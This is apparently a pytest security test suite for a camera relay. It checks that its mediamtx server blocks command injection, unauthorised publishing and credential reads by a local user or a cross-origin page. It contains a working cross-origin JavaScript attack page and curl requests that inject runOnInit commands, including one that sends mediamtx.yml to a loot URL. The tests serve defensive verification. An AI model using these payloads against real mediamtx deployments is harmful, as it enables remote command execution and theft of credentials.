"""mediamtx is camrelay's private part (issue 11, findings 1-3).

Tried the way an attacker would: as another account on the Pi (uid 65534, with curl and ffmpeg) and as a web
page on another origin in Debian's headless Chromium. Neither can run a command through mediamtx, publish to it
or read a secret out of it; camrelay's own video keeps flowing.
"""

from __future__ import annotations

import asyncio
import dataclasses
import json
import logging
import os
import stat
import subprocess
import urllib.parse

import psutil
import pytest
from aiohttp import web

from benchmarks.chromium import chromium
from benchmarks.ports import free_port

from .conftest import RunningRelay, make_config, start_relay
from .test_rtsp import read_rtsp, rtsp_url, wait_published

LOCAL_USER = 65534  # "nobody": any other account on the Pi
ATTACK_TIMEOUT = 60  # seconds; a deadline for one attacker command, never a measurement
PAGE_TIMEOUT_MS = 30_000
READ_PASSWORD = "Read-Only-9f3c"  # URL-safe, so it shows as it is wherever a URL carries it
OLD_API_PATHS = ("/v3/config/paths/get/live", "/v3/config/global/get", "/v3/paths/list")

# A page on another origin, as the issue found it: a no-cors POST with a text/plain body needs no preflight (the
# page cannot see the answer, only whether anything answered), then GETs of the config in case they are readable.
ATTACK_PAGE = """<!doctype html><title>cat pictures</title><script>
const {ports, command, paths} = %s;
(async () => {
  const out = {};
  for (const port of ports) {
    const base = `http://127.0.0.1:${port}`;
    const r = {};
    try {
      await fetch(`${base}/v3/config/paths/add/pwned${port}`, {method: "POST", mode: "no-cors",
        headers: {"Content-Type": "text/plain"}, body: JSON.stringify({runOnInit: command})});
      r.post = "sent";
    } catch (e) { r.post = "refused"; }
    for (const path of paths) {
      try { r[path] = await (await fetch(base + path)).text(); } catch (e) { r[path] = "refused"; }
    }
    out[port] = r;
  }
  window.attackResult = out;
})();
</script>"""


async def as_local_user(*argv: str) -> subprocess.CompletedProcess:
    """``argv`` run as another account on this machine, with a bare environment."""
    if os.geteuid() != 0:
        pytest.skip("running commands as another local user (uid 65534) needs root")
    return await asyncio.to_thread(
        subprocess.run, argv, user=LOCAL_USER, group=LOCAL_USER, extra_groups=[], env={"PATH": "/usr/bin:/bin"},
        cwd="/", capture_output=True, text=True, timeout=ATTACK_TIMEOUT,
    )  # fmt: skip


def target_ports(relay: RunningRelay) -> list[int]:
    """Where the control API was (``rtsp.api_port``) and every TCP port mediamtx listens on now."""
    listening = {
        c.laddr.port
        for c in psutil.Process(relay.relay.mediamtx.pid).net_connections("tcp")
        if c.status == psutil.CONN_LISTEN
    }
    return sorted(listening | {relay.relay.config.rtsp.api_port})


async def curl_as_local_user(url: str, *args: str) -> tuple[str, str]:
    """(HTTP status, body) of a request sent by the local user; status "000" when nothing answered HTTP."""
    result = await as_local_user("curl", "-sS", "--max-time", "10", "-w", "\n%{http_code}", *args, url)
    body, _, code = result.stdout.rpartition("\n")
    return code, body + result.stderr


async def rtsp_sessions(http, relay: RunningRelay) -> int:
    """How many times camrelay has (re)opened its publish session for cam0, as /api/v1/rtsp reports it."""
    async with http.get(relay.base + "/api/v1/rtsp") as resp:
        return (await resp.json())["streams"]["cam0"]["sessions"]


async def attack_from_a_page(relay: RunningRelay, command: str) -> tuple[dict[int, dict], list[bytes]]:
    """What ``ATTACK_PAGE`` got, per port, served from another origin (a second server on another port) in
    Chromium, and what was sent back to that server's ``/loot`` (``{loot}`` in ``command`` is its URL)."""
    port = free_port()
    loot: list[bytes] = []
    args = json.dumps(
        {"ports": target_ports(relay), "command": command.format(loot=f"http://127.0.0.1:{port}/loot"),
         "paths": OLD_API_PATHS}
    )  # fmt: skip

    async def page(_request: web.Request) -> web.Response:
        return web.Response(text=ATTACK_PAGE % args, content_type="text/html")

    async def take(request: web.Request) -> web.Response:
        loot.append(await request.read())
        return web.Response()

    app = web.Application()
    app.router.add_get("/", page)
    app.router.add_post("/loot", take)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", port).start()
    try:
        async with chromium() as browser:
            tab = await browser.new_page()
            await tab.goto(f"http://127.0.0.1:{port}/")
            await tab.wait_for_function("() => window.attackResult", timeout=PAGE_TIMEOUT_MS)
            result = await tab.evaluate("() => window.attackResult")
    finally:
        await runner.cleanup()
    return {int(p): r for p, r in result.items()}, loot


# -- 1: no command runs through mediamtx ------------------------------------


@pytest.mark.relay_config(rtsp=True)
async def test_local_user_cannot_run_a_command_through_mediamtx(relay_server, tmp_path):
    await wait_published(relay_server)
    pwned = tmp_path / "pwned"
    body = json.dumps({"runOnInit": f"touch {pwned}"})
    answers = {}
    for port in target_ports(relay_server):
        answers[port], _ = await curl_as_local_user(
            f"http://127.0.0.1:{port}/v3/config/paths/add/pwned",
            "-X", "POST", "-H", "Content-Type: text/plain", "--data-binary", body,
        )  # fmt: skip
    assert all(not code.startswith("2") for code in answers.values()), f"mediamtx took the command: {answers}"
    await wait_published(relay_server)  # mediamtx is still up, and still camrelay's
    assert not pwned.exists()


@pytest.mark.browser
@pytest.mark.relay_config(rtsp=True)
async def test_page_on_another_origin_cannot_run_a_command_through_mediamtx(relay_server, tmp_path):
    await wait_published(relay_server)
    pwned = tmp_path / "pwned"
    result, _ = await attack_from_a_page(relay_server, f"touch {pwned}")
    # Nothing listens where the API was; mediamtx's RTSP port answers HTTP only with 400 (the local-user test).
    assert result[relay_server.relay.config.rtsp.api_port]["post"] == "refused", result
    await wait_published(relay_server)
    assert not pwned.exists()


# -- 2: nobody else publishes -------------------------------------------------


@pytest.mark.relay_config(rtsp=True, rtsp_user="nvr", rtsp_password=READ_PASSWORD)
@pytest.mark.parametrize("auth", ["", f"nvr:{READ_PASSWORD}@"], ids=["anonymous", "with-the-read-login"])
@pytest.mark.parametrize("path", ["cam0", "intruder"])
async def test_local_user_cannot_publish_or_take_over_a_stream(relay_server, http, auth, path):
    await wait_published(relay_server)
    sessions = await rtsp_sessions(http, relay_server)
    published = await as_local_user(
        "ffmpeg", "-nostdin", "-v", "error", "-re", "-f", "lavfi", "-i", "testsrc2=size=320x240:rate=15", "-t", "2",
        "-c:v", "libx264", "-f", "rtsp", "-rtsp_transport", "tcp", rtsp_url(relay_server, path, auth),
    )  # fmt: skip
    assert published.returncode != 0 and "401 Unauthorized" in published.stderr, published.stderr
    # NVRs still get camrelay's own video (every frame carries its pixel clock), from the same publish session.
    assert None not in await asyncio.to_thread(read_rtsp, rtsp_url(relay_server, "cam0", f"nvr:{READ_PASSWORD}@"), 10)
    assert await rtsp_sessions(http, relay_server) == sessions, "camrelay's publisher was displaced"


# -- 3: the read password stays secret ----------------------------------------


@pytest.mark.relay_config(rtsp=True, rtsp_user="nvr", rtsp_password=READ_PASSWORD)
async def test_local_user_cannot_read_the_rtsp_password(relay_server):
    await wait_published(relay_server)
    for port in target_ports(relay_server):
        for path in OLD_API_PATHS:
            code, text = await curl_as_local_user(f"http://127.0.0.1:{port}{path}")
            assert not code.startswith("2") and READ_PASSWORD not in text, (port, path, code, text)
    mtx = relay_server.relay.mediamtx
    assert stat.S_IMODE(mtx.config_path.stat().st_mode) == 0o600
    denied = await as_local_user("cat", str(mtx.config_path))
    assert denied.returncode != 0 and "Permission denied" in denied.stderr
    text = mtx.config_path.read_text()
    assert READ_PASSWORD not in text, "mediamtx.yml holds the read password"
    cmdline = await as_local_user("cat", f"/proc/{mtx.pid}/cmdline")
    assert READ_PASSWORD not in cmdline.stdout


@pytest.mark.browser
@pytest.mark.relay_config(rtsp=True, rtsp_user="nvr", rtsp_password=READ_PASSWORD)
async def test_page_on_another_origin_cannot_read_the_rtsp_password(relay_server):
    await wait_published(relay_server)
    # mediamtx runs hooks in its working directory, next to its config: have it send that file to the page's server.
    result, loot = await attack_from_a_page(relay_server, "curl -s --data-binary @mediamtx.yml {loot}")
    assert result[relay_server.relay.config.rtsp.api_port]["post"] == "refused", result
    for port, r in result.items():
        for path in OLD_API_PATHS:
            assert r[path] == "refused", (port, path, r[path])
    await wait_published(relay_server)
    assert not loot


# -- camrelay's own credential stays its own ----------------------------------


async def test_publish_credential_is_in_no_log_line_and_no_command_line(caplog):
    caplog.set_level(logging.DEBUG)
    runner, relay = await start_relay(dataclasses.replace(make_config(rtsp=True), log_level="debug"))
    try:
        await wait_published(relay)
        await asyncio.to_thread(read_rtsp, rtsp_url(relay, "live"), 3)  # mediamtx pulls /live with it
        secret = urllib.parse.urlsplit(relay.relay.mediamtx.publisher_base).password
        command_lines = [" ".join(p.info["cmdline"] or ()) for p in psutil.process_iter(["cmdline"])]
    finally:
        await runner.cleanup()
    assert secret and len(secret) >= 32
    assert not [line for line in command_lines if secret in line]
    assert "publishing rtsp to rtsp://camrelay:***@127.0.0.1:" in caplog.text
    assert secret not in caplog.text


# -- what mediamtx inherits ----------------------------------------------------


async def test_mediamtx_gets_none_of_camrelays_settings(monkeypatch):
    monkeypatch.setenv("CAMRELAY_RTSP_PASSWORD", READ_PASSWORD)
    config = make_config(rtsp=True)
    runner, relay = await start_relay(
        dataclasses.replace(config, rtsp=dataclasses.replace(config.rtsp, mediamtx_threads=1))
    )
    try:
        environ = psutil.Process(relay.relay.mediamtx.pid).environ()
    finally:
        await runner.cleanup()
    assert not [k for k in environ if k.startswith("CAMRELAY_")], environ
    assert READ_PASSWORD not in "".join(environ.values())
    assert environ.get("GOMAXPROCS") == "1"  # [rtsp] mediamtx_threads = 1: one Go scheduler thread (0: Go's own)
